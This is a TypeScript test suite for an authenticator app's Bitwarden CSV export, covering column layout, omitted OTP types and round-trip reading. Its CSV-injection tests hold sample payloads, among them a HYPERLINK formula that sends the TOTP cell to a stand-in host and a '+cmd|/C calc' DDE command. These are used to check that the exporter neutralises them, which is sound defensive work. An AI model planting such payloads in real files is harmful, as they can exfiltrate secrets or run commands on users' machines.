import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { AccountDraft } from '../../../../src/account.ts'
import { arbitraryAccounts, exampleRuns } from '../../../support/arbitrary-accounts.ts'
import { hotpDraft, totpDraft } from '../../../support/drafts.ts'
import { exported, exportedText, expectSame, reopened } from '../../../support/exported.ts'

const header = 'folder,favorite,type,name,notes,fields,reprompt,login_uri,login_username,login_password,login_totp\r\n'
const link = 'otpauth://totp/GitHub:ada%40example.org?secret=GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ&issuer=GitHub&'

/** The cells of the first account: no quotes are in those tests that use it. */
async function cellsOf(members: Partial<AccountDraft>): Promise<readonly string[]> {
  const text = await exportedText('bitwarden-csv', [totpDraft(members)])
  return text.slice(header.length).trimEnd().split(',')
}

const nameOf = async (members: Partial<AccountDraft>) => (await cellsOf(members))[3]
const usernameOf = async (members: Partial<AccountDraft>) => (await cellsOf(members))[8]

describe('bitwarden-csv', () => {
  it('is a table of logins', async () => {
    const accounts = [
      totpDraft({ note: 'one\n"two", three', tags: ['Work', 'Home'], pinned: true }),
      totpDraft({ type: 'steam', issuer: 'Steam', account: 'ada' }),
    ]
    expect(await exportedText('bitwarden-csv', accounts)).toBe(
      `${header}Work,1,login,GitHub,"one\n""two"", three",,0,,ada@example.org,,${link}algorithm=SHA1&digits=6&period=30\r\n` +
        ',,login,Steam,,,0,,ada,,steam://GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ\r\n',
    )
  })

  it('leaves out what Bitwarden would take for time-based', async () => {
    const others = [totpDraft(), hotpDraft(), totpDraft({ type: 'motp', pin: '1' }), totpDraft({ type: 'yandex' })]
    const { omitted } = await exported('bitwarden-csv', others)
    expect(omitted).toEqual([1, 2, 3].map((account) => ({ account, reason: 'type' })))
  })

  it.each(['=1+2', '=HYPERLINK("http://x/"&K2)', '+cmd|/C calc', '-2+3+SUM(A1)', "@SUM('a'!A1)", '\uff1d1'])(
    'guards %s against being run by a spreadsheet',
    async (issuer) => {
      const name = (await exportedText('bitwarden-csv', [totpDraft({ issuer })])).slice(header.length)
      expect(name).toMatch(/^,,login,"?'/)
    },
  )

  it.each(['+49 170 1234567', '@alice', '-', '- spare', '+1.555.0100'])('leaves %s as it is', async (account) => {
    expect(await usernameOf({ account })).toBe(account)
  })

  it('guards what a spreadsheet of another country takes for a new cell', async () => {
    expect(await nameOf({ issuer: 'a;=1+2' })).toBe("a;'=1+2")
    const note = 'first\n=SUM(A1)\nlast'
    expect(await exportedText('bitwarden-csv', [totpDraft({ note })])).toContain('"first\n\'=SUM(A1)\nlast"')
  })

  it('tells which accounts have a guard, and leaves the link alone', async () => {
    const account = totpDraft({ issuer: '=1+2' })
    const { bytes, reduced } = await exported('bitwarden-csv', [account])
    expect(reduced).toEqual([{ account: 0, lost: ['formula'] }])
    expectSame(await reopened(bytes), [account])
  })

  it('is what the app reads again, but for the guards', async () => {
    const known = arbitraryAccounts(({ type, issuer, account }) => {
      return type === 'totp' || (type === 'steam' && issuer !== '' && !/[=+@;-]/.test(issuer + account))
    })
    await fc.assert(
      fc.asyncProperty(known, async (accounts) => {
        const { bytes, reduced } = await exported('bitwarden-csv', accounts)
        const read = await reopened(bytes)
        // Where the link has no issuer, the login's name is one.
        const named = accounts.map((each) => ({ ...each, issuer: each.issuer || each.account }))
        const guarded = new Set(reduced.filter(({ lost }) => lost.includes('formula')).map(({ account }) => account))
        const plain = (list: readonly AccountDraft[]) => list.filter((_, index) => !guarded.has(index))
        expectSame(plain(read), plain(named))
        expect(plain(read).map(restOf)).toEqual(plain(accounts).map(restOf))
      }),
      { numRuns: exampleRuns },
    )
  })
})

function restOf({ note = '', tags = [], pinned = false }: AccountDraft): object {
  return { note, pinned, tags: tags.slice(0, 1) }
}
